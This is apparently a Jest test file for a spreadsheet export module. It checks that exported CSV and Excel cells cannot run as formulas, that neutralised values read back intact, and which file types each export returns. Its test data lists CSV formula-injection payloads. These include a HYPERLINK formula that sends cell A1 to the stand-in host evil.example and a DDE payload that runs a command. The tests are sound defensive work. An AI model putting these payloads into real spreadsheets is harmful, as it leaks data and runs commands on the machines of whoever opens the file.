/** What leaves as a file: no cell is a formula, and no kind of file is without its test. */
import { expect, test } from '@jest/globals';
import Papa from 'papaparse';
import { strFromU8, unzipSync } from 'fflate';
import { readSheet } from '../../../documents/sheets/read.js';
import { writeSheet } from '../../../documents/sheets/write.js';
import { operations } from '../operations.js';

const formulas = [
  '=1+1', '=HYPERLINK("http://evil.example?"&A1,"点我")', `=cmd|' /C calc'!A0`, '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', ' =1+1', '\u00a0=1+1',
]; // prettier-ignore
const rows = [['编号', '名称'], ...formulas.map((formula, i) => [String(i), formula])];

test('CSV: every cell that a program of spreadsheets would run begins with an apostrophe', async () => {
  const text = (await writeSheet(rows, 'csv')).toString('utf8');
  const { data } = Papa.parse<string[]>(text.slice(1));
  expect(data.slice(1).map(([, cell]) => cell)).toEqual(formulas.map((formula) => `'${formula}`));
  // and none begins a cell of its own by a quote or a comma
  const cunning = await writeSheet([['a', 'x","=1+1'], ['b', 'x,=1+1'], ['c', 'x\r\n=1+1']], 'csv'); // prettier-ignore
  expect(Papa.parse<string[]>(cunning.toString('utf8').slice(1)).data.map((row) => row.length)).toEqual([2, 2, 2]);
});

test('Excel: every cell is a text', async () => {
  const files = unzipSync(await writeSheet(rows, 'xlsx'));
  const xml = Object.entries(files).flatMap(([name, content]) =>
    name.includes('worksheets/') ? [strFromU8(content)] : [],
  );
  expect(xml.join('')).toContain('<c ');
  expect(xml.join('')).not.toMatch(/<f[ >]/);
  expect(xml.join('')).not.toMatch(/<c (?![^>]*t="(s|inlineStr|str)")[^>]*><v>/);
});

test.each(['csv', 'xlsx'] as const)('%s: what was neutralised is read as it was', async (format) => {
  const names = ['=1+1', '+86 138', '-1', '@周', '＝1', "'already"];
  const table = [['名称'], ...names.map((name) => [name])];
  expect(await readSheet(await writeSheet(table, format), format)).toEqual(table);
});

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

test('whatever else leaves is no table: a new kind of export is tested here first', () => {
  const files = operations.filter(({ answers }) => answers.some((type) => !type.includes('json')));
  expect(Object.fromEntries(files.map(({ id, answers }) => [id, answers.join()]))).toEqual({
    exportSheet: 'application/octet-stream',
    // JSON within; names of its entries are ours
    getArchive: 'application/zip',
    getBulletinDocx: word,
    getBulletinPdf: 'application/pdf',
    getDutyDocx: word,
    getDutyPdf: 'application/pdf',
    // as it came, to be saved
    getFile: 'application/octet-stream',
    // pages for residents, of issued papers alone
    readPublicPage: 'text/html',
    readPublicPageOf: 'text/html',
    streamEvents: 'text/event-stream',
  });
});
